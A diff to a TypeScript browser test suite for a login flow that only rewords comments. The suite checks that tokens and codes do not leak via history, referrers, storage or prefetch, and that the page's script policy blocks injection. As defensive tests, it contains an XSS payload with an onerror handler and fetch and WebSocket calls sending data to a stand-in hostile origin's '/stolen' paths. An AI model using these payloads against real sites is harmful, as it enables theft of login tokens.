@@ -12,19 +12,19 @@ import { keepOpen, openWindow, yes } from "./browser/windows.ts";
 import { SEALED } from "./browser/world.ts";
 
 /**
- * What a login leaves behind in a real browser, and what the browser sends along unasked: referrers, history, caches,
- * storage, requests made in advance. Nothing of it may hold or move a code, a ticket or a token.
+ * What a login leaves behind in a real browser, and what the browser sends on its own: referrers, history, caches,
+ * storage and speculative requests. None of these may contain or transfer a code, a ticket or a token.
  */
 
 setTheStage();
 
-/** Whatever is a code, a ticket or a token in a text. */
+/** The codes, tickets and tokens in a text. */
 function secretsIn(value: unknown): string[] {
   const text = typeof value === "string" ? value : JSON.stringify(value);
   return [CODE_CANARY, TOKEN_CANARY, SEALED].filter((secret) => text.includes(secret));
 }
 
-/** Every entry of the window's history, by the browser's own door. */
+/** Every entry of the window's history, read through the DevTools protocol. */
 async function historyOf(page: Page): Promise<string[]> {
   const session = await page.context().newCDPSession(page);
   const { entries } = await session.send("Page.getNavigationHistory");
@@ -32,10 +32,10 @@ async function historyOf(page: Page): Promise<string[]> {
   return entries.map(({ url }) => url);
 }
 
-/** The app names its window; nobody else writes there. */
+/** The app sets this window name. No page of ours changes it. */
 const NAME = "named-by-the-app";
 
-/** What a page of ours holds, where others or a later visitor could find it. */
+/** What one of our pages stores where other pages or later visitors could find it. */
 async function belongingsOf(page: Page): Promise<Record<string, unknown>> {
   return await page.evaluate(async () => ({
     cookie: document.cookie,
@@ -68,12 +68,12 @@ describe("a whole login", () => {
       if (dialect === "navigation") await popup.waitForURL(`${world.honest.origin}/callback?**`);
       else await expectNothingLeft(popup);
 
-      // The app's own page has got a sealed code in its address, where it asked for that.
+      // The app's own page has a sealed code in its address if the app asked for a redirect.
       const history = await historyOf(popup);
       expect(secretsIn(history.filter((url) => !url.startsWith(`${world.honest.origin}/callback`)))).toEqual([]);
       expect(secretsIn(history).filter((secret) => secret !== SEALED)).toEqual([]);
       expectQuietReferrers(dialect);
-      // What the app's page can see of the window that it has opened.
+      // What the app's page can observe of the window that it has opened.
       const seen = await page.evaluate(() =>
         JSON.stringify([performance.getEntries(), { ...localStorage }, document.cookie]),
       );
@@ -81,7 +81,7 @@ describe("a whole login", () => {
     },
   );
 
-  /** [A65] The token was in the page's hands for a moment. */
+  /** [A65] The page held the token for a moment. */
   async function expectNothingLeft(popup: Page): Promise<void> {
     await popup.getByRole("heading", { name: "Done" }).waitFor();
     expect(await belongingsOf(popup)).toEqual(NOTHING);
@@ -95,7 +95,7 @@ describe("a whole login", () => {
     expect([TOKEN_CANARY, CODE_CANARY].filter((secret) => JSON.stringify(rest).includes(secret))).toEqual([]);
   }
 
-  /** [A35] The browser names an app to us and to the service, and us to nobody. */
+  /** [A35] Referrers name an app to us and to the service, but never name us. */
   function expectQuietReferrers(dialect: Dialect): void {
     const parties = [world.provider, world.service, world.honest];
     const referers = parties.flatMap(({ exchanges }) => exchanges.map(({ headers }) => headers.referer ?? ""));
@@ -144,7 +144,7 @@ describe("[A35] Back", () => {
     await page.evaluate((url) => location.assign(url), world.login("navigation", world.hostile));
     await yes(page).waitFor();
     await passGate(yes(page));
-    // This browser may not keep pages; then it says so as one that does.
+    // This browser may not keep pages in the back-forward cache, so the test dispatches the event itself.
     await page.evaluate(() => void dispatchEvent(new PageTransitionEvent("pageshow", { persisted: true })));
     expect(await yes(page).isDisabled()).toBe(true);
     await page.goto(world.hostile.origin);
@@ -171,7 +171,7 @@ describe("[A62] what is fetched in advance", () => {
       const rules = document.createElement("script");
       rules.type = "speculationrules";
       const list = (urls: string[]) => [{ source: "list", eagerness: "immediate", urls }];
-      // One list each, since a page that is fetched already is not fetched again.
+      // Prefetch and prerender use different addresses, because a page is not fetched twice.
       rules.textContent = JSON.stringify({ prefetch: list(urls.map((url) => `${url}#`)), prerender: list(urls) });
       document.head.append(rules);
       for (const href of urls)
@@ -203,8 +203,8 @@ describe("[A62] what is fetched in advance", () => {
       const begun = world.provider.exchanges.filter(({ url }) => /^\/auth/.test(url));
       expect(begun.length).toBeGreaterThanOrEqual(16);
       expect(begun.filter(({ headers }) => headers.cookie !== undefined)).toEqual([]);
-      // What these send on to the service, the browser does not follow: `Cross-Origin-Resource-Policy`. Madata's apps
-      // begin there.
+      // The browser does not follow redirects from these to the service because of `Cross-Origin-Resource-Policy`.
+      // Madata's apps start at the service itself.
       expect(world.service.exchanges.length).toBe(4);
       expect(world.tokenRequests()).toBe(0);
       expect(await context.cookies()).toEqual(cookies);
@@ -248,7 +248,7 @@ describe("[A5] the policy of our pages", () => {
     expect(said.filter((text) => /refused|violat|trusted/i.test(text))).toEqual([]);
   });
 
-  /** By Trusted Types or `script-src`, with an exception; what `tryEverything` does besides must come to nothing. */
+  /** These throw because of Trusted Types or `script-src`. Everything else in `tryEverything` must have no effect. */
   const REFUSED = [
     ...["innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "script.src", "script.text", "srcdoc"],
     ...["eval", "Function", "createPolicy", "createContextualFragment", "Worker", "object", "onclick"],
@@ -261,7 +261,7 @@ describe("[A5] the policy of our pages", () => {
     expect(ran).toBe(false);
     await roundTrip(popup);
     expect(world.hostile.exchanges.filter(({ url }) => url.startsWith("/stolen"))).toEqual([]);
-    // This is also the proof that violations are counted.
+    // This also proves that violations are recorded.
     expect(faults.splice(0).length).toBeGreaterThan(10);
   });
 
@@ -273,7 +273,7 @@ describe("[A5] the policy of our pages", () => {
   }
 
   async function tryEverything(hostile: string): Promise<{ thrown: string[]; ran: boolean }> {
-    // The inspector's door lets text run; what a timer calls is the page's own again.
+    // Code run through DevTools may evaluate text. After a timer, the page's own policy applies again.
     await new Promise((resolve) => setTimeout(resolve));
     const thrown: string[] = [];
     const markup = "<img src=x onerror='window.ran = true'>";
@@ -324,7 +324,7 @@ describe("[A5] the policy of our pages", () => {
     attempt("fetch", () => void fetch(`${hostile}/stolen-by-fetch`, { mode: "no-cors" }).catch(() => {}));
     const socket = new WebSocket(`${hostile.replace("http", "ws")}/stolen-by-socket`);
     socket.onerror = () => {};
-    // What is allowed comes last: everything else has been tried by then.
+    // The allowed request comes last, after all other attempts.
     await new Promise((resolve) =>
       Object.assign(new Image(), { onload: resolve, onerror: resolve, src: "/favicon.svg?last" }),
     );
